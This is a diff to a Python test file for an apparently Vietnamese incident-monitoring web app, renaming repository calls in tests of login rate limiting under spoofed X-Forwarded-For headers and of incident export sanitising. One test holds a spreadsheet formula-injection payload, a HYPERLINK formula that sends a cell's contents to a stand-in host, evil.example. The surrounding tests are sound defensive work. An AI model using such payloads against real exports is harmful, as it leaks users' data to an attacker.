@@ -112,7 +112,7 @@ def test_the_login_limit_ignores_forwarded_for_from_an_untrusted_peer(tmp_path: 
         c = TestClient(env.app, client=("127.0.0.1", 4000))
         # A fresh X-Forwarded-For each time does not reset the count: the peer is counted.
         assert [_login(c, f"203.0.113.{i}") for i in range(7)] == [401] * 6 + [429]
-        ips = {a.ip for a in env.repo.audit_entries(50, 0).items if a.actor == "nobody"}
+        ips = {a.ip for a in env.repo.users.audit_entries(50, 0).items if a.actor == "nobody"}
         assert ips == {"127.0.0.1"}
 
 
@@ -124,7 +124,7 @@ def test_the_login_limit_counts_the_forwarded_client_behind_a_trusted_proxy(tmp_
         assert _login(c, "203.0.113.2") == 401  # another client behind the same proxy
         # ... and a client cannot escape its count by prepending an address of its choice.
         assert _login(c, "6.6.6.6, 203.0.113.1") == 429
-        ips = {a.ip for a in env.repo.audit_entries(50, 0).items if a.actor == "nobody"}
+        ips = {a.ip for a in env.repo.users.audit_entries(50, 0).items if a.actor == "nobody"}
         assert ips == {"203.0.113.1", "203.0.113.2"}
         assert c.post(f"{V1}/auth/token", data={"username": "admin", "password": PASSWORD},
                       headers={"X-Forwarded-For": "203.0.113.3"}).status_code == 200
@@ -159,7 +159,7 @@ def test_an_incident_export_neutralises_a_title_made_from_a_registry_name(env: E
     # a name "=HYPERLINK(...)" in the registry reaches the export as the title's start.
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
     now = env.seed.now
-    env.repo.upsert_incident(IncidentRecord(
+    env.repo.incidents.upsert_incident(IncidentRecord(
         id="inc-tn-evil", site="thong-nhat", kind="gateway_offline", severity="warning", state="open",
         title_vi=evil, title_en="@" + evil, opened_at=now - timedelta(minutes=5),
         updated_at=now - timedelta(minutes=5), assignee=None,
